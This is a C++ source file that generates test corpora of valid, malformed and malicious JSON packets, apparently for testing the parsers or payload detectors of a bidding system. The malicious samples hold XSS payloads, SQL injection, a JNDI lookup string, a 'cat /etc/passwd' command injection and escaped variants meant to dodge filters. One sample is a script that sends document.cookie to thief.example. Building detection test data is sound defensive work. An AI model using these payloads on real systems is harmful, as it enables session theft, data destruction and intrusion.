#include "corpus.hpp"

#include <array>
#include <string_view>

namespace rtbwire::corpus {
namespace {

using namespace std::string_view_literals;

constexpr std::array keys = {"id"sv,       "imp"sv,     "banner"sv,      "w"sv,      "h"sv,
                             "site"sv,     "page"sv,    "ref"sv,         "device"sv, "ua"sv,
                             "ip"sv,       "geo"sv,     "lat"sv,         "lon"sv,    "user"sv,
                             "ext"sv,      "title"sv,   "description"sv, "tags"sv,   "price"sv,
                             "currency"sv, "comment"sv, "naïve"sv,       "ключ"sv,   "名前"sv};
constexpr std::array words = {"summer"sv,     "offer"sv,  "train"sv,  "market"sv,  "bicycle"sv,
                              "coffee"sv,     "garden"sv, "quick"sv,  "news"sv,    "street"sv,
                              "zürich"sv,     "café"sv,   "Москва"sv, "новости"sv, "東京"sv,
                              "スクリプト"sv, "한국어"sv, "مرحبا"sv,  "🙂"sv,      "script"sv,
                              "select"sv,     "on"sv,     "unison"sv, "1<2"sv,     "&"sv};
constexpr std::array escapes = {"\\n"sv, "\\t"sv,     "\\\""sv,    "\\\\"sv,
                                "\\/"sv, "\\u00e9"sv, "\\u4e2d"sv, "\\ud83d\\ude00"sv};
// The second of each pair is the same with escapes.
constexpr std::array<std::array<std::string_view, 2>, 6> payloads = {{
    {"<script>steal()</script>", "\\u003cscript\\u003esteal()\\u003c\\/script>"},
    {"<IMG SRC=x OnError=steal()>", "<IMG SRC=x On\\u0045rror=steal()>"},
    {"JavaScript:steal()", "Java\\u0053cript:steal()"},
    {"1 UNION SELECT pass FROM users", "1 UN\\u0049ON SELECT pass FROM users"},
    {"${jndi:ldap://a.example/x}", "$\\u007bjndi:ldap:\\/\\/a.example\\/x}"},
    {"x; cat /etc/passwd", "x; cat \\/etc\\/passwd"},
}};

class maker {
 public:
  maker(random& random, std::size_t size) : random_{random}, size_{size} {}

  std::string make(std::string_view payload) {
    payload_ = payload;
    text_ = "{\"id\":";
    string();
    while (text_.size() < size_) {
      text_ += ',';
      member(0);
    }
    if (!payload_.empty()) {
      text_ += ",\"note\":";
      string();
    }
    text_ += '}';
    return std::move(text_);
  }

 private:
  void member(int depth) {
    text_ += '"';
    text_ += keys[random_.below(keys.size())];
    // Numbered, because some parsers keep only one of two equal keys.
    text_ += std::to_string(members_++);
    text_ += "\":";
    value(depth);
  }

  void value(int depth) {
    const std::size_t which = random_.below(depth < 4 ? 12 : 9);
    if (which < 5) string();
    else if (which < 7) number();
    else if (which == 7) text_ += random_.percent(50) ? "true" : "false";
    else if (which == 8) text_ += "null";
    else if (which < 11) list('{', '}', depth);
    else list('[', ']', depth);
  }

  void list(char open, char close, int depth) {
    text_ += open;
    const std::size_t n = random_.below(5);
    for (std::size_t i = 0; i < n && text_.size() < size_; ++i) {
      if (i > 0) text_ += ',';
      open == '{' ? member(depth + 1) : value(depth + 1);
    }
    text_ += close;
  }

  void number() {
    if (random_.percent(20)) text_ += '-';
    text_ += std::to_string(random_.below(random_.percent(50) ? 100 : 1000000));
    if (random_.percent(30)) text_ += '.' + std::to_string(random_.below(10000));
    if (random_.percent(5)) text_ += "e-" + std::to_string(random_.below(20));
  }

  void string() {
    text_ += '"';
    const std::size_t n = random_.below(7);
    for (std::size_t i = 0; i < n; ++i) {
      if (i > 0) text_ += ' ';
      text_ += words[random_.below(words.size())];
      if (random_.percent(5)) text_ += escapes[random_.below(escapes.size())];
    }
    // After the middle, so that a search must read that far.
    if (!payload_.empty() && text_.size() > size_ / 2) {
      text_ += payload_;
      payload_ = {};
    }
    text_ += '"';
  }

  random& random_;
  std::size_t size_;
  std::string text_;
  std::string_view payload_;
  int members_{0};
};

// One fault that every parser must find.
void spoil(random& r, std::string& text) {
  switch (r.below(5)) {
    case 0: text.resize(text.size() / 2 + r.below(text.size() / 2 - 1)); break;  // cut off
    case 1: text.back() = ']'; break;
    case 2: text.insert(text.size() - 1, ","); break;
    case 3: text.insert(text.size() - 1, ",\"x\":01"); break;
    default: text.insert(text.size() - 1, ",\"x\" 1"); break;
  }
}

}  // namespace

std::vector<packet> make(const options& o) {
  random r{o.seed};
  std::vector<packet> packets;
  packets.reserve(o.count);
  while (packets.size() < o.count) {
    // Room for the end of the last value and for the fault or payload.
    const std::size_t size = o.size_min + r.below(o.size_max - o.size_min - 160);
    packet p{{}, kind::valid, false};
    const std::size_t draw = r.below(100);
    std::string_view payload;
    if (draw < o.malicious_percent) {
      p.is = kind::malicious;
      p.escaped = r.percent(50);
      payload = payloads[r.below(payloads.size())][p.escaped];
    } else if (draw < o.malicious_percent + o.invalid_percent) {
      p.is = kind::invalid;
    }
    p.text = maker{r, size}.make(payload);
    if (p.is == kind::invalid) spoil(r, p.text);
    if (p.text.size() < o.size_min || p.text.size() > o.size_max) continue;
    packets.push_back(std::move(p));
  }
  return packets;
}

std::vector<packet> classic() {
  const std::string valid =
      R"({"order":{"id":"a7-1190","buyer":{"name":"Zoë Müller","city":"Zürich","note":"Bitte klingeln, 2. Stock links"},)"
      R"("items":[{"sku":"кофе-250","title":"Кофе в зёрнах","qty":2,"price":9.5},{"sku":"茶-100","title":"緑茶 静岡県産","qty":1,"price":12.75},)"
      R"({"sku":"mug","title":"مج خزفي","qty":4,"price":-0.5e1}],"paid":true,"coupon":null,"tags":["gift","週末","доставка"],)"
      R"("geo":{"lat":47.3769,"lon":8.5417},"remark":"line one\nline two \"quoted\" 🙂"}})";
  std::string invalid =
      R"({"order":{"id":"a7-1191","buyer":{"name":"Jean-Luc Ünsal","city":"Genève","note":"interphone en panne, merci d'appeler"},)"
      R"("items":[{"sku":"té-50","title":"Té de la montaña","qty":3,"price":4.25},{"sku":"cup","title":"чашка большая белая","qty":6,"price":7.0},)"
      R"({"sku":"filter,"title":"フィルター 100枚","qty":1,"price":3.2}],"paid":false,"coupon":"WINTER-15","tags":["b2b","отзыв","再注文"],)"
      R"("geo":{"lat":46.2044,"lon":6.1432},"remark":"call before delivery, ring twice, leave with the neighbour on floor three"}})";
  const auto malicious = [](std::string_view payload) {
    return std::string{
               R"({"order":{"id":"a7-1192","buyer":{"name":"Ana María","city":"Málaga","note":"entregar por la tarde"},)"
               R"("items":[{"sku":"té-50","title":"Té verde con menta","qty":3,"price":4.25},{"sku":"cup","title":"чашка синяя малая","qty":6,"price":7.0},)"
               R"({"sku":"filter","title":"フィルター 100枚","qty":1,"price":3.2}],"paid":false,"coupon":null,"tags":["nuevo","отзыв","再注文"],)"
               R"("geo":{"lat":36.7213,"lon":-4.4214},"remark":"muy bien )"} +
           std::string{payload} + R"("}})";
  };
  return {{valid, kind::valid, false},
          {invalid, kind::invalid, false},
          {malicious("<script>alert('XSS')</script>"), kind::malicious, false},
          {malicious("\\u003cscript\\u003ealert(\\u0027XSS\\u0027)\\u003c\\/script\\u003e"),
           kind::malicious, true}};
}

std::vector<packet> published() {
  return {{R"({
    "meta": { "id": 17, "valid": true, "coordinates": [ 0.0, 0.0 ], "nesting": [ [ [ null ] ] ] },
    "greetings": [
        { "language": "English", "text": "Good morning! Have you had your first coffee today?" },
        { "language": "日本語", "text": "おはようございます。今朝のコーヒーはもう飲みましたか？" },
        { "language": "Español", "text": "Buenos días, ¿ya tomó el café de la mañana?" }
    ]
})",
           kind::valid, false},
          {R"({
    "meta": { "id": 17, "valid": true, "coordinates": [ 2.345, 6.789 ], "nesting": [ [ [ null ] ] ] },
    "greetings": [
        { "language": "English", "text": "Good morning! Have you had your first coffee today?" },
        { "language": "日本語", "text": "おはようございます。今朝のコーヒーはもう飲みましたか？" },
        { "language": "Español", "text": "Buenos días, ¿ya tomó el café de la mañana?" }
    ],
    "source": "192.0.2.1, // the quote at the end is missing here
})",
           kind::invalid, false},
          {R"({
    "meta": { "id": "<script>steal(document.cookie)</script>", "valid": true, "nesting": [ [ [ null ] ] ] },
    "greetings": [
        { "language": "English", "text": "Good morning! <img src=y onerror='steal(2)'>" },
        { "language": "HTML", "text": "<iframe src='javascript:steal(`now`)'></iframe>" },
        { "language": "SQL", "text": "'; DELETE FROM users; --" }
    ],
    "comment": "<script>fetch('https://thief.example/take?what=' + encodeURIComponent(document.cookie), {mode: 'no-cors'});</script>"
})",
           kind::malicious, false}};
}

}  // namespace rtbwire::corpus
